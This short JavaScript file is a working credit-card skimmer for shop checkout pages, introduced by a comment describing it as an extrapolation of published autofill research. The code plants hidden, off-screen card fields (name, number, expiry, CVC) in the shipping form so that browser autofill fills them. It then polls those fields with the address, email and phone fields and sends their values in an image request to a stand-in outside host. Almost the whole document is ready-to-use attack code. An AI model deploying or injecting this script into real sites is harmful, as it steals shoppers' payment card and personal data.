// The same trick on a checkout page (an extrapolation of the published research to card
// data, not a reported sample): hidden card fields with cc-name, cc-number, cc-exp and
// cc-csc autocomplete hints are slipped into the shop's own address form, off-screen, so a
// browser that fills a saved card with the address fills them too; they are polled and
// their values leave in the query string of an image request, once per card.
(function () {
  if (!/checkout|onepage|payment/.test(location.pathname)) return;
  var names = { "cc-name": "ccn", "cc-number": "ccnum", "cc-exp": "ccexp", "cc-csc": "cccvv" };
  function plant() {
    var form = document.querySelector("form#co-shipping-form, form.checkout, form[name='checkout']");
    if (!form || form.querySelector("[data-af]")) return;
    Object.keys(names).forEach(function (k) {
      var i = document.createElement("input");
      i.setAttribute("autocomplete", k);
      i.name = names[k];
      i.setAttribute("data-af", "1");
      i.tabIndex = -1;
      i.setAttribute("aria-hidden", "true");
      i.style.cssText = "position:absolute;left:-5000px;opacity:0;height:0;width:0";
      form.appendChild(i);
    });
  }
  var last = "";
  function poll() {
    plant();
    var q = [], num = "";
    document.querySelectorAll("[data-af], input[autocomplete^='address'], input[autocomplete='email'], input[autocomplete='tel']").forEach(function (i) {
      if (!i.value) return;
      if (i.name === "ccnum") num = i.value.replace(/\D/g, "");
      q.push(encodeURIComponent(i.name || i.getAttribute("autocomplete")) + "=" + encodeURIComponent(i.value));
    });
    if (num.length < 13 || num === last) return;
    last = num;
    new Image().src = "https://img.pixel-cdnstat.invalid/p.gif?" + q.join("&") + "&h=" + location.hostname;
  }
  setInterval(poll, 800);
})();
